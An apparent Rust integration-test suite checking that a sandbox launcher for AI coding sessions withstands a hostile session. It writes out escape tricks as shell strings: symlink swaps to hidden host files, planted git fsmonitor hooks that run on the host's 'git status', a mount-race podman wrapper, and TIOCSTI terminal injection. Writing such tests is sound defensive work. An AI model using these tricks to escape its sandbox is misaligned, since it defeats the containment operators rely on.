//! Issue 9, "the boundary holds against a hostile session": one test per class of trick,
//! each as root and as a normal user, at level B and (where the class applies) level C.
//!
//! Every test plays a patient attacker: a first session (`clp run`) plants its trick in
//! what it may write (the workspace, the profile's home and state), then the test looks at
//! the host after a second launch, after a host `git status`, or after the session ended.
//! Every test also has a control (level A, the protection switched off, or the mount done
//! by path the way a naive launcher would) that shows the same check sees the trick work:
//! a check that cannot fail proves nothing.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use clp_test_backend::{Backend, Config};

use crate::common::{self, require, text};
use crate::container;
use crate::sandbox::{self, As, Box, TestUser};

/// The image the shipped `local-container` profile names.
const IMAGE: &str = "localhost/clp-claude:2.1.330";

/// The isolation level under test.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Level {
    /// bubblewrap.
    B,
    /// Podman.
    C,
}

fn is_root() -> bool {
    nix::unistd::getuid().is_root()
}

/// A box whose profile `box` runs at `level`, or `None` (skipped) when a component is
/// missing.
fn boxed(mode: As, level: Level) -> Option<Box> {
    let backend = Backend::start(Config::default()).unwrap();
    match level {
        Level::B => {
            let user = sandbox::ready(mode)?;
            Some(Box::new(mode, user, backend))
        }
        Level::C => {
            let user = container::ready(mode, IMAGE)?;
            let url = backend.url();
            Some(container::container_box_at(
                mode, user, backend, &url, false, "",
            ))
        }
    }
}

/// `clp [--set SET]... run box -- sh -c SCRIPT`.
fn session(b: &Box, sets: &[&str], script: &str) -> Output {
    let mut args: Vec<&str> = sets.iter().flat_map(|s| ["--set", s]).collect();
    args.extend(["run", "box", "--", "sh", "-c", script]);
    b.clp(&args).output().unwrap()
}

/// A host command run as the test user (the workspace's owner), in the workspace, with
/// the box's home.
fn as_user(b: &Box, program: &str) -> Command {
    let mut cmd = if is_root() {
        let mut c = Command::new("setpriv");
        c.args([
            &format!("--reuid={}", b.user.uid),
            &format!("--regid={}", b.user.gid),
            "--clear-groups",
            "--",
            program,
        ]);
        c
    } else {
        Command::new(program)
    };
    cmd.env_clear()
        .env("HOME", &b.home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("LANG", "C.UTF-8")
        .current_dir(&b.project)
        .stdin(Stdio::null());
    cmd
}

/// `sh -c SCRIPT` on the host as the test user; panics when it fails.
fn user_sh(b: &Box, script: &str) -> String {
    let out = as_user(b, "sh").args(["-c", script]).output().unwrap();
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "host `{script}`: {stdout}{stderr}");
    stdout
}

/// Makes the workspace a real repository with one commit (the box only has a `.git` with
/// `hooks` and `config`).
fn git_repo(b: &Box) {
    user_sh(
        b,
        "git init -q -b main . && git -c user.name=t -c user.email=t@t commit -q \
         --allow-empty -m init && git add README && git -c user.name=t -c user.email=t@t \
         commit -q -m readme",
    );
}

/// A directory on the host, writable by the test user and by root, that no session sees
/// (under the box's temporary dir: a private `/tmp` at level B, not mounted at level C).
fn marker_dir(b: &Box) -> PathBuf {
    let dir = b.dir.path().join("markers");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    dir
}

/// A shell snippet (for `sh -c`, dash's printf) that writes an executable hook at
/// `HOOK` touching `marker`, and a git config at `FILE` that runs it as its fsmonitor,
/// i.e. on every `git status`. `extra` adds config lines (`\\t...\\n` escapes).
fn plant_fsmonitor(hook: &Path, marker: &Path, file: &str, extra: &str) -> String {
    format!(
        "printf '#!/bin/sh\\ntouch {marker}\\n' > {hook} && chmod +x {hook} && \
         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n{extra}\\tfsmonitor = {hook}\\n' > {file}",
        marker = marker.display(),
        hook = hook.display(),
    )
}

fn chown(path: &Path, user: &TestUser) {
    std::os::unix::fs::lchown(path, Some(user.uid), Some(user.gid)).unwrap();
}

/// Makes `link` a symbolic link to `target` owned by the test user, as a session (or an
/// earlier level A one) would leave it; what was there is moved to `link.old`. Done from
/// the test process: as root the user cannot reach its state dir from the host, only from
/// inside a session, where the paths clp mounts are busy.
fn plant_link(b: &Box, link: &Path, target: &Path) {
    if link.symlink_metadata().is_ok() {
        let old = PathBuf::from(format!("{}.old", link.display()));
        std::fs::rename(link, old).unwrap();
    }
    std::os::unix::fs::symlink(target, link).unwrap();
    chown(link, &b.user);
}

/// The profile's state dir on the host.
fn state(b: &Box) -> PathBuf {
    b.home.join(".local/state/clp/box")
}

/// Runs `cmd`, killing it (SIGKILL) when it has not finished after `limit`: `Err` says
/// how long it was given.
fn output_within(mut cmd: Command, limit: Duration) -> Result<Output, String> {
    let mut child = common::Guarded::spawn(cmd.stdout(Stdio::piped()).stderr(Stdio::piped()));
    let start = Instant::now();
    while start.elapsed() < limit {
        if child.try_wait().unwrap().is_some() {
            return Ok(child.wait_with_output());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let _ = child.kill();
    let out = child.wait_with_output();
    let (stdout, stderr) = text(&out);
    Err(format!(
        "still running after {limit:?}, killed:\n{stdout}{stderr}"
    ))
}

/// What a launcher that mounts by path (not by descriptor) would show of `path`: a
/// bubblewrap (the test's own: as root, the state dir is out of the user's reach) binding
/// it at `/mnt` and listing it.
fn mounted_by_path(path: &Path) -> String {
    let out = Command::new("bwrap")
        .args(["--ro-bind", "/", "/", "--dev", "/dev", "--ro-bind"])
        .arg(path)
        .args([
            "/mnt",
            "--",
            "sh",
            "-c",
            "ls -a /mnt; cat /mnt/* 2>/dev/null",
        ])
        .output()
        .unwrap();
    text(&out).0
}

// ---- 1. Bind sources never follow planted symbolic links ----------------------------

/// A first session with the protections off swaps `.git/hooks` for a link to a host
/// directory it must not see; the next launch refuses (exit 2, naming the path) and shows
/// nothing of it. Then the profile's own home is made a link to `/` (a session cannot do
/// that any more: the home is pinned, see the `EBUSY` below; the host user plants it as an
/// earlier level A session could): refused the same way. Control: a mount by path shows
/// the targets.
fn bind_sources(mode: As, level: Level) {
    let Some(b) = boxed(mode, level) else { return };
    let hidden = b.dir.path().join("hidden");
    std::fs::create_dir_all(&hidden).unwrap();
    std::fs::write(hidden.join("secret.txt"), "HIDDENDIRSECRET\n").unwrap();
    chown(&hidden, &b.user);
    chown(&hidden.join("secret.txt"), &b.user);

    let out = session(
        &b,
        &["workspace.protect=[]"],
        &format!(
            "mv .git/hooks .git/hooks.real && ln -s '{}' .git/hooks && echo planted",
            hidden.display()
        ),
    );
    let (stdout, stderr) = text(&out);
    assert!(
        stdout.contains("planted"),
        "{mode:?} {level:?}: {stdout}{stderr}"
    );
    assert!(
        mounted_by_path(&b.project.join(".git/hooks")).contains("HIDDENDIRSECRET"),
        "control: a mount by path follows the link"
    );

    let out = session(&b, &[], "ls -a .git/hooks/; cat .git/hooks/*");
    let (stdout, stderr) = text(&out);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{mode:?} {level:?}: {stdout}{stderr}"
    );
    assert!(
        stderr.contains(&format!("`{}`", b.project.join(".git/hooks").display()))
            && stderr.contains("symbolic link"),
        "{mode:?} {level:?}: the message names the path: {stderr}"
    );
    assert!(!stdout.contains("HIDDENDIRSECRET") && !stderr.contains("HIDDENDIRSECRET"));
    std::fs::remove_file(b.project.join(".git/hooks")).unwrap();
    std::fs::rename(
        b.project.join(".git/hooks.real"),
        b.project.join(".git/hooks"),
    )
    .unwrap();

    // The profile's home, inside its state dir: pinned, so a session cannot swap it.
    let out = session(
        &b,
        &[],
        "cd \"$CLAUDE_CONFIG_DIR/..\" && if mv home home.real 2>&1; then echo MOVED; fi",
    );
    let (stdout, stderr) = text(&out);
    assert!(
        out.status.success() && !stdout.contains("MOVED") && stdout.contains("busy"),
        "{mode:?} {level:?}: the profile's home could be moved: {stdout}{stderr}"
    );
    plant_link(&b, &state(&b).join("home"), Path::new("/"));
    assert!(
        mounted_by_path(&state(&b).join("home")).contains("etc"),
        "control: a mount by path follows the link"
    );
    let out = session(&b, &[], "ls -a \"$HOME\"");
    let (stdout, stderr) = text(&out);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{mode:?} {level:?}: {stdout}{stderr}"
    );
    assert!(
        stderr.contains(&format!("`{}`", state(&b).join("home").display())),
        "{mode:?} {level:?}: {stderr}"
    );
    assert!(!stdout.contains("etc"), "{stdout}");
}

#[test]
fn bind_sources_never_follow_planted_symlinks_b_as_root() {
    bind_sources(As::Root, Level::B);
}

#[test]
fn bind_sources_never_follow_planted_symlinks_b_as_user() {
    bind_sources(As::User, Level::B);
}

#[test]
fn bind_sources_never_follow_planted_symlinks_c_as_root() {
    bind_sources(As::Root, Level::C);
}

#[test]
fn bind_sources_never_follow_planted_symlinks_c_as_user() {
    bind_sources(As::User, Level::C);
}

/// Level C hands paths to the engine, which resolves them after clp's check: a session of
/// the same workspace still running can swap what it created (here `.vscode`, missing
/// when it started, so neither pinned nor read-only for it) for a link in between. A
/// `podman` on PATH that makes the swap just before the real one starts plays that race
/// deterministically. The container compares each mount with what clp checked and stops
/// before running anything. Control: the engine, given that path, mounts the link's
/// target.
fn swapped_before_the_engine(mode: As) {
    let Some(mut b) = boxed(mode, Level::C) else {
        return;
    };
    let hidden = b.dir.path().join("hidden");
    std::fs::create_dir_all(&hidden).unwrap();
    std::fs::write(hidden.join("secret.txt"), "HIDDENDIRSECRET\n").unwrap();
    let vscode = b.project.join(".vscode");
    std::fs::create_dir_all(&vscode).unwrap();
    chown(&vscode, &b.user);
    let bin = b.dir.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let real = common::which("podman").unwrap();
    let wrapper = bin.join("podman");
    std::fs::write(
        &wrapper,
        format!(
            "#!/bin/sh\nmv '{v}' '{v}.real' && ln -s '{h}' '{v}'\nexec '{real}' \"$@\"\n",
            v = vscode.display(),
            h = hidden.display(),
            real = real.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    b.path_var = format!("{}:{}", bin.display(), b.path_var);
    let out = session(&b, &[], "cat .vscode/secret.txt; echo RAN");
    let (stdout, stderr) = text(&out);
    assert!(
        std::fs::symlink_metadata(&vscode).unwrap().is_symlink(),
        "the wrapper did not swap: {stderr}"
    );
    assert_eq!(out.status.code(), Some(2), "{mode:?}: {stdout}{stderr}");
    assert!(
        !stdout.contains("HIDDENDIRSECRET") && !stdout.contains("RAN"),
        "{mode:?}: {stdout}{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "`{}` in the container is not what clp checked",
            vscode.display()
        )),
        "{mode:?}: {stderr}"
    );
    // Control: what the engine mounts at that path now.
    let mut podman = if mode == As::Root {
        let mut c = Command::new(&real);
        c.arg("--runtime=runc")
            .args(["run"])
            .args(container_root_flags());
        c
    } else {
        let mut c = as_user(&b, &real.display().to_string());
        c.arg("run");
        c
    };
    let out = podman
        .args(["--rm", "--pull=never", "--network=host"])
        .arg(format!("--volume={}:/x:ro", vscode.display()))
        .args([IMAGE, "cat", "/x/secret.txt"])
        .output()
        .unwrap();
    assert!(
        text(&out).0.contains("HIDDENDIRSECRET"),
        "control: the engine does not follow the link: {:?}",
        text(&out)
    );
}

#[test]
fn a_source_swapped_before_the_engine_mounts_it_is_caught_c_as_root() {
    swapped_before_the_engine(As::Root);
}

#[test]
fn a_source_swapped_before_the_engine_mounts_it_is_caught_c_as_user() {
    swapped_before_the_engine(As::User);
}

// ---- 2. As root, links in session-owned dirs never steer root ------------------------

/// Every path below `root` owned by uid 0 (the session's dirs must hold none).
fn root_owned(root: &Path) -> Vec<PathBuf> {
    walkdir::WalkDir::new(root)
        .follow_links(false)
        .into_iter()
        .flatten()
        .filter(|e| e.metadata().is_ok_and(|m| m.uid() == 0))
        .map(|e| e.path().to_owned())
        .collect()
}

/// As root, the first session (the test user, inside B or C) and the host user plant
/// links in what the user owns: the profile's home (`~/.bashrc` into bubblewrap's
/// `/oldroot`, `~/.local` into the workspace, `~/project` at a root-owned dir), its state
/// (`settings.json`, `claude/.claude.json` at a root-owned file, `anthropic` and `tmp` at
/// a root-owned dir). The next root launches (B, then C) either refuse or replace the
/// links; no root-owned file changes, and root creates nothing in the session's dirs (at C
/// the engine, as root, would create its mount points there). Control: the same mounts
/// done by path by a root engine leave root-owned mount points in the profile's home.
fn root_never_steered(level: Level) {
    let Some(b) = boxed(As::Root, level) else {
        return;
    };
    let victim_file = b.dir.path().join("victim-file");
    std::fs::write(&victim_file, "root's\n").unwrap();
    std::fs::set_permissions(&victim_file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let victim_dir = b.dir.path().join("victim-dir");
    std::fs::create_dir_all(&victim_dir).unwrap();
    let var_tmp = PathBuf::from(format!("/var/tmp/clp-it-victim-{}", std::process::id()));
    let _ = std::fs::remove_file(&var_tmp);

    // A first launch creates the profile's dirs; then the session plants what it can.
    let out = session(
        &b,
        &[],
        &format!(
            "cd \"$CLAUDE_CONFIG_DIR\" && rm -f .claude.json && ln -s '{file}' .claude.json \
             && cd .. && rm -rf anthropic tmp && ln -s '{dir}' anthropic && ln -s '{dir}' tmp \
             && ln -s ../../oldroot{var_tmp} \"$HOME/.bashrc\" && echo planted",
            file = victim_file.display(),
            dir = victim_dir.display(),
            var_tmp = var_tmp.display(),
        ),
    );
    let (stdout, stderr) = text(&out);
    assert!(stdout.contains("planted"), "{level:?}: {stdout}{stderr}");
    let home = state(&b).join("home");
    let planted_inside = ["claude/.claude.json", "anthropic", "tmp", "home/.bashrc"];
    for link in planted_inside {
        match std::fs::remove_file(state(&b).join(link)) {
            // The after-session check put the planted `.claude.json` link aside.
            Err(e) if link == "claude/.claude.json" => {
                assert_eq!(
                    e.kind(),
                    std::io::ErrorKind::NotFound,
                    "{level:?}: {stderr}"
                );
                assert!(stderr.contains("put it aside"), "{level:?}: {stderr}");
            }
            done => done.unwrap(),
        }
    }
    for dir in ["anthropic", "tmp"] {
        std::fs::create_dir(state(&b).join(dir)).unwrap();
        chown(&state(&b).join(dir), &b.user);
    }

    let check = |when: &str| {
        assert_eq!(
            std::fs::read_to_string(&victim_file).unwrap(),
            "root's\n",
            "{level:?} {when}"
        );
        let meta = std::fs::metadata(&victim_file).unwrap();
        assert_eq!(
            (meta.uid(), meta.mode() & 0o777),
            (0, 0o600),
            "{level:?} {when}"
        );
        assert_eq!(std::fs::metadata(&victim_dir).unwrap().uid(), 0);
        assert!(
            std::fs::read_dir(&victim_dir).unwrap().next().is_none(),
            "{level:?} {when}: something was created in the root-owned dir"
        );
        assert!(!var_tmp.exists(), "{level:?} {when}: {}", var_tmp.display());
        let owned: Vec<PathBuf> = root_owned(&state(&b))
            .into_iter()
            .chain(root_owned(&b.project))
            .collect();
        assert!(
            owned.is_empty(),
            "{level:?} {when}: root created these in the session's dirs:\n{owned:#?}"
        );
    };
    check("after the first launch");
    // One link at a time, so that each one meets the launch on its own: the four the
    // session planted above, and three a session cannot replace while they are mount
    // points (planted as the user would between sessions).
    let oldroot = PathBuf::from(format!("../../oldroot{}", var_tmp.display()));
    let links: [(&str, &Path); 7] = [
        ("claude/.claude.json", &victim_file),
        ("anthropic", &victim_dir),
        ("tmp", &victim_dir),
        ("home/.bashrc", &oldroot),
        ("settings.json", &victim_file),
        ("home/.local", &b.project),
        ("home/project", &victim_dir),
    ];
    for (link, target) in links {
        let at = state(&b).join(link);
        plant_link(&b, &at, target);
        let out = session(&b, &[], "echo x > \"$HOME/.bashrc\"; ls -a \"$HOME\"");
        let (stdout, stderr) = text(&out);
        assert!(
            out.status.code() == Some(2) || out.status.success(),
            "{level:?} {link}: {stdout}{stderr}"
        );
        check(&format!(
            "after a launch over `{link}` -> `{}`",
            target.display()
        ));
        std::fs::remove_file(&at).unwrap();
        let old = PathBuf::from(format!("{}.old", at.display()));
        if old.symlink_metadata().is_ok() {
            std::fs::rename(old, &at).unwrap();
        }
    }
    let out = session(&b, &[], "echo ok");
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{level:?}: {stdout}{stderr}");
    check("after a clean launch");

    // Control: mounting the workspace inside the profile's home, by path, as root, makes
    // root create the mount point in the session's home.
    let probe = home.join("control-mount-point");
    let out = match level {
        Level::B => Command::new("bwrap")
            .args(["--ro-bind", "/", "/", "--bind"])
            .arg(&home)
            .arg("/mnt")
            .arg("--bind")
            .arg(&b.project)
            .args(["/mnt/control-mount-point", "true"])
            .output()
            .unwrap(),
        Level::C => Command::new("podman")
            .args(["--runtime=runc", "run", "--rm", "--pull=never"])
            .args(container_root_flags())
            .arg(format!("--volume={}:/h", home.display()))
            .arg(format!(
                "--volume={}:/h/control-mount-point",
                b.project.display()
            ))
            .args([IMAGE, "true"])
            .output()
            .unwrap(),
    };
    assert!(out.status.success(), "{:?}", text(&out));
    assert_eq!(std::fs::metadata(&probe).unwrap().uid(), 0, "control");
}

fn container_root_flags() -> Vec<String> {
    ["--ulimit=nofile=20000:20000", "--ulimit=nproc=32768:32768"]
        .map(String::from)
        .to_vec()
}

#[test]
fn root_launches_never_write_through_links_in_session_dirs_b() {
    root_never_steered(Level::B);
}

#[test]
fn root_launches_never_write_through_links_in_session_dirs_c() {
    root_never_steered(Level::C);
}

// ---- 3. Protected git paths cannot be moved away or redirected -----------------------

/// Every file under `root` (no links followed) with its contents, to put back later.
fn save_files(root: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    walkdir::WalkDir::new(root)
        .follow_links(false)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| (e.path().to_owned(), std::fs::read(e.path()).unwrap()))
        .collect()
}

/// Each attack on the repository's git state, run in a session; afterwards the user's own
/// `git status` on the host (in the workspace, or in a linked worktree elsewhere) must not
/// run the planted fsmonitor. The repository has a submodule (`sub`, whose git dir is
/// `.git/modules/sub`), a per-worktree config (`extensions.worktreeConfig`, as
/// `git sparse-checkout` sets) and a linked worktree outside the workspace. Control: with
/// `workspace.protect = []`, every attack makes the host `git status` run it.
fn protected_git(mode: As, level: Level) {
    let Some(b) = boxed(mode, level) else { return };
    git_repo(&b);
    let markers = marker_dir(&b);
    let outside = b.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    chown(&outside, &b.user);
    let linked = outside.join("linked");
    let commit = "git -c user.name=t -c user.email=t@t commit -q";
    user_sh(
        &b,
        &format!(
            "set -e; git init -q -b main '{src}'; (cd '{src}' && {commit} --allow-empty -m s); \
             git -c protocol.file.allow=always submodule --quiet add '{src}' sub; \
             {commit} -m sub; git config extensions.worktreeConfig true; \
             git config --worktree core.sparseCheckout false; \
             git worktree add -q '{linked}'",
            src = outside.join("src").display(),
            linked = linked.display(),
        ),
    );
    let saved = save_files(&b.project.join(".git"));
    let hook = b.project.join(".fsm-hook");
    // (name, script, where the user runs `git status`)
    let attacks: Vec<(&str, &str, &Path)> = vec![
        (
            "swap .git",
            "mv .git .git2 && mkdir .git && cp -a .git2/. .git/ && {plant .git/config}",
            &b.project,
        ),
        ("write .git/config", "{plant .git/config}", &b.project),
        (
            "redirect .git/commondir",
            "mkdir -p .evil/objects .evil/refs && cp .git/HEAD .evil/ && \
             {plant .evil/config} && echo ../.evil > .git/commondir",
            &b.project,
        ),
        (
            "the workspace as the git dir",
            "mv .git/HEAD .git/HEAD.moved && echo 'ref: refs/heads/main' > HEAD && \
             mkdir -p objects refs && {plant_wt config}",
            &b.project,
        ),
        (
            "write .git/config.worktree",
            "{plant .git/config.worktree}",
            &b.project,
        ),
        (
            "write a submodule's config",
            "{plant .git/modules/sub/config}",
            &b.project,
        ),
        (
            "redirect a linked worktree's commondir",
            "mkdir -p .evil/objects .evil/refs && cp .git/HEAD .evil/ && \
             {plant .evil/config} && echo ../../../.evil > .git/worktrees/linked/commondir",
            &linked,
        ),
    ];
    let mut report = Vec::new();
    for control in [false, true] {
        for (i, (name, script, at)) in attacks.iter().enumerate() {
            let marker = markers.join(format!("fsmonitor-{control}-{i}"));
            let mut script = script.to_string();
            for file in [
                ".git/config",
                ".evil/config",
                ".git/config.worktree",
                ".git/modules/sub/config",
            ] {
                script = script.replace(
                    &format!("{{plant {file}}}"),
                    &plant_fsmonitor(&hook, &marker, file, ""),
                );
            }
            script = script.replace(
                "{plant_wt config}",
                &plant_fsmonitor(&hook, &marker, "config", "\\tworktree = .\\n"),
            );
            let sets: &[&str] = if control {
                &["workspace.protect=[]"]
            } else {
                &[]
            };
            let out = session(&b, sets, &format!("({script}) && echo PLANTED; true"));
            let (stdout, stderr) = text(&out);
            let status = as_user(&b, "git")
                .args(["status", "--short"])
                .current_dir(at)
                .output()
                .unwrap();
            let ran = marker.exists();
            report.push(format!(
                "{name} (control {control}): planted {}, fsmonitor ran on the host {ran}\n{stderr}",
                stdout.contains("PLANTED")
            ));
            if control {
                assert!(
                    ran,
                    "control `{name}`: the trick does not work (exit {:?}):\n{stdout}{stderr}{:?}",
                    out.status.code(),
                    text(&status)
                );
            } else {
                assert!(
                    !ran,
                    "{mode:?} {level:?}: `{name}`: the host `git status` ran the planted \
                     fsmonitor\n{stdout}{stderr}"
                );
                assert!(out.status.success(), "{stdout}{stderr}");
                assert!(
                    !stderr.lines().any(|l| l.starts_with("clp: ")
                        && (l.contains("modules/sub") || l.contains("worktrees/linked"))),
                    "{mode:?} {level:?}: `{name}`: clp moved the user's own files:\n{stderr}"
                );
            }
            // Back to the repository as it was for the next attack.
            user_sh(
                &b,
                "if [ -d .git2 ]; then rm -rf .git && mv .git2 .git; fi; \
                 if [ -e .git/HEAD.moved ]; then mv .git/HEAD.moved .git/HEAD; fi; \
                 rm -rf .evil .fsm-hook .git/commondir HEAD objects refs config \
                 *.clp-held-* .git/*.clp-held-*",
            );
            for (path, contents) in &saved {
                // Only what changed: git's objects are read-only to a normal user.
                if std::fs::read(path).ok().as_ref() != Some(contents) {
                    std::fs::write(path, contents).unwrap();
                }
            }
        }
    }
    eprintln!("{mode:?} {level:?}:\n{}", report.join("\n"));
}

#[test]
fn protected_git_cannot_be_moved_or_redirected_b_as_root() {
    protected_git(As::Root, Level::B);
}

#[test]
fn protected_git_cannot_be_moved_or_redirected_b_as_user() {
    protected_git(As::User, Level::B);
}

#[test]
fn protected_git_cannot_be_moved_or_redirected_c_as_root() {
    protected_git(As::Root, Level::C);
}

#[test]
fn protected_git_cannot_be_moved_or_redirected_c_as_user() {
    protected_git(As::User, Level::C);
}

// ---- 4. No descriptor of the caller crosses ----------------------------------------

/// `cmd` started from `bash -c 'PREFIX; exec "$@"'`, with the same environment and
/// directory: what the caller opens in PREFIX is inherited by clp.
fn wrapped(cmd: &Command, prefix: &str) -> Command {
    let mut w = Command::new("bash");
    w.arg("-c")
        .arg(format!("{prefix}; exec \"$@\""))
        .arg("bash")
        .arg(cmd.get_program())
        .args(cmd.get_args())
        .env_clear()
        .stdin(Stdio::null());
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            w.env(k, v);
        }
    }
    if let Some(dir) = cmd.get_current_dir() {
        w.current_dir(dir);
    }
    w
}

/// The caller runs clp with a root-only file open at 7 and a directory the boundary hides
/// at 8, neither close-on-exec. Inside, neither exists and `/proc/self/fd` lists 0-2 and
/// `ls`'s own. Control: at level A both are readable.
fn caller_fds(mode: As, level: Level) {
    let Some(b) = boxed(mode, level) else { return };
    let root_only = b.dir.path().join("root-only.txt");
    std::fs::write(&root_only, "ROOTONLYSECRET\n").unwrap();
    std::fs::set_permissions(&root_only, std::fs::Permissions::from_mode(0o600)).unwrap();
    let hidden = b.dir.path().join("hidden-dir");
    std::fs::create_dir_all(&hidden).unwrap();
    std::fs::write(hidden.join("key"), "HIDDENDIRKEY\n").unwrap();
    std::fs::set_permissions(hidden.join("key"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let prefix = format!(
        "exec 7<'{}'; exec 8<'{}'",
        root_only.display(),
        hidden.display()
    );
    let script =
        "echo fds: $(ls /proc/self/fd | tr '\\n' ' '); cat <&7; cat /proc/self/fd/8/key; true";
    for control in [false, true] {
        let mut args = vec!["run", "box", "--", "sh", "-c", script];
        if control {
            args.splice(0..0, ["--set", "isolation.level=env"]);
        }
        let out = wrapped(&b.clp(&args), &prefix).output().unwrap();
        let (stdout, stderr) = text(&out);
        assert!(out.status.success(), "{mode:?} {level:?}: {stdout}{stderr}");
        let leaked = stdout.contains("ROOTONLYSECRET") || stdout.contains("HIDDENDIRKEY");
        if control {
            assert!(
                stdout.contains("ROOTONLYSECRET") && stdout.contains("HIDDENDIRKEY"),
                "control: the descriptors are not inherited at level A:\n{stdout}{stderr}"
            );
            continue;
        }
        assert!(!leaked, "{mode:?} {level:?}: {stdout}{stderr}");
        let fds: Vec<u32> = stdout
            .lines()
            .find_map(|l| l.strip_prefix("fds:"))
            .unwrap()
            .split_whitespace()
            .map(|n| n.parse().unwrap())
            .collect();
        assert!(
            fds.iter().all(|fd| *fd <= 3),
            "{mode:?} {level:?}: descriptors inside: {fds:?}"
        );
    }
}

#[test]
fn caller_descriptors_do_not_cross_b_as_root() {
    caller_fds(As::Root, Level::B);
}

#[test]
fn caller_descriptors_do_not_cross_b_as_user() {
    caller_fds(As::User, Level::B);
}

#[test]
fn caller_descriptors_do_not_cross_c_as_root() {
    caller_fds(As::Root, Level::C);
}

#[test]
fn caller_descriptors_do_not_cross_c_as_user() {
    caller_fds(As::User, Level::C);
}

// ---- 5. No session keyring, no typing into the terminal ------------------------------

/// Perl's `syscall` with x86_64 numbers: `keyctl` is 250, `add_key` 248.
/// (Perl wants writable strings for `syscall`, hence the variables.)
const KEYCTL_SEARCH: &str = "syscall(250, 10, -3, $t, $d, 0)";

/// The caller joins a new session keyring holding a key, then runs clp. Inside, the key
/// cannot be found (B: `keyctl` fails with EPERM; C: the engine gives the container a
/// keyring of its own) and no key can be added at B. Control: at level A it is found.
fn keyring(mode: As, level: Level) {
    if !cfg!(target_arch = "x86_64") {
        eprintln!("SKIPPED: the keyring test uses x86_64 syscall numbers");
        return;
    }
    require("perl", common::which("perl"));
    let Some(b) = boxed(mode, level) else { return };
    let prefix = "exec perl -e 'my ($t, $d, $p) = (\"user\", \"clp-it-key\", \"KEYSECRET\"); \
                  syscall(250, 1, 0) > 0 or die \"join: $!\"; \
                  syscall(248, $t, $d, $p, 9, -3) > 0 or die \"add: $!\"; \
                  exec @ARGV' -- \"$@\"";
    let inside = format!(
        "perl -e 'my ($t, $d, $n, $x) = (\"user\", \"clp-it-key\", \"clp-it-new\", \"x\"); \
         $r = {KEYCTL_SEARCH}; print \"search=$r $!\\n\"; \
         $a = syscall(248, $t, $n, $x, 1, -3); print \"add=$a $!\\n\"'"
    );
    for control in [false, true] {
        let mut args = vec!["run", "box", "--", "sh", "-c", inside.as_str()];
        if control {
            args.splice(0..0, ["--set", "isolation.level=env"]);
        }
        let clp = b.clp(&args);
        // bash execs perl, which joins a keyring and execs clp.
        let mut cmd = wrapped(&clp, prefix);
        let out = cmd.output().unwrap();
        let (stdout, stderr) = text(&out);
        assert!(out.status.success(), "{mode:?} {level:?}: {stdout}{stderr}");
        let found = stdout
            .lines()
            .find_map(|l| l.strip_prefix("search="))
            .and_then(|l| l.split_whitespace().next())
            .and_then(|n| n.parse::<i64>().ok())
            .unwrap_or(-1);
        if control {
            assert!(
                found > 0,
                "control: the key is not found at level A: {stdout}"
            );
            continue;
        }
        assert!(
            found < 0,
            "{mode:?} {level:?}: the caller's key was found: {stdout}"
        );
        if level == Level::B {
            assert!(
                stdout.contains("search=-1 Operation not permitted")
                    && stdout.contains("add=-1 Operation not permitted"),
                "{mode:?}: {stdout}"
            );
        }
    }
}

#[test]
fn no_session_keyring_b_as_root() {
    keyring(As::Root, Level::B);
}

#[test]
fn no_session_keyring_b_as_user() {
    keyring(As::User, Level::B);
}

#[test]
fn no_session_keyring_c_as_root() {
    keyring(As::Root, Level::C);
}

#[test]
fn no_session_keyring_c_as_user() {
    keyring(As::User, Level::C);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// `cmd` as one shell line (`env -i VAR=... PROGRAM ARGS...`).
fn command_line(cmd: &Command) -> String {
    let mut line = String::from("env -i");
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            line.push_str(&format!(
                " {}={}",
                k.to_string_lossy(),
                shell_quote(&v.to_string_lossy())
            ));
        }
    }
    line.push_str(&format!(
        " {}",
        shell_quote(&cmd.get_program().to_string_lossy())
    ));
    for a in cmd.get_args() {
        line.push_str(&format!(" {}", shell_quote(&a.to_string_lossy())));
    }
    line
}

/// In a real terminal (tmux), the session pushes `touch MARKER` into the terminal's input
/// with `TIOCSTI`: the shell that started clp would run it after clp exits. Inside B the
/// ioctl fails; inside C it reaches only the container's own terminal. Control: at level A
/// the shell runs the injected line.
fn typing(mode: As, level: Level) {
    require("tmux (apt-get install tmux)", common::which("tmux"));
    let Some(b) = boxed(mode, level) else { return };
    let markers = marker_dir(&b);
    for control in [false, true] {
        let marker = markers.join(format!("injected-{control}"));
        let inject = format!(
            "perl -e 'for (split //, \"touch {}\\n\") {{ ioctl(STDIN, 0x5412, $_) or print \"ioctl: $!\\n\" and exit }} print \"injected\\n\"'",
            marker.display()
        );
        let mut args = vec!["run", "box", "--", "sh", "-c", inject.as_str()];
        if control {
            args.splice(0..0, ["--set", "isolation.level=env"]);
        }
        let mut cmd = b.clp(&args);
        cmd.env("TERM", "xterm-256color");
        let script = b.dir.path().join(format!("typing-{control}.sh"));
        std::fs::write(
            &script,
            format!(
                "cd {}\n{}; echo CLP-EXITED\n",
                shell_quote(&b.project.display().to_string()),
                command_line(&cmd)
            ),
        )
        .unwrap();
        let session_name = format!(
            "clp-it-typing-{}-{mode:?}-{level:?}-{control}",
            std::process::id()
        );
        // A server of its own, killed on drop even if an assertion fails.
